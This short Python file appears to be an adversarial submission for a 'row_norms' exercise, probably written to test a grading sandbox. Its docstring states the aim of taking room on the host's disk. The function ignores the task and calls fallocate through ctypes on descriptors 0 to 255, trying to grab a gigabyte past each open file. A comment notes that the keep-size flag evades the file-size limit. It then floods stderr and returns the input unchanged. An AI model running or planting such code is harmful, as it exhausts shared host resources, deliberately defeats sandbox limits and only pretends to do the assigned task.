"""
tries = "Takes room on the host's disk: fallocate beyond the end of every open file, stderr first."
others = "any"
"""


# %% exercise="row_norms"
def row_norms(x):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    taken = 0
    for number in range(256):
        for mode in (1, 0):  # FALLOC_FL_KEEP_SIZE: not bounded by RLIMIT_FSIZE
            if libc.fallocate(number, mode, ctypes.c_long(0), ctypes.c_long(2**30)) == 0:
                taken += 1
    print("files that grew:", taken)
    os.write(2, b"x" * 1000)
    return x
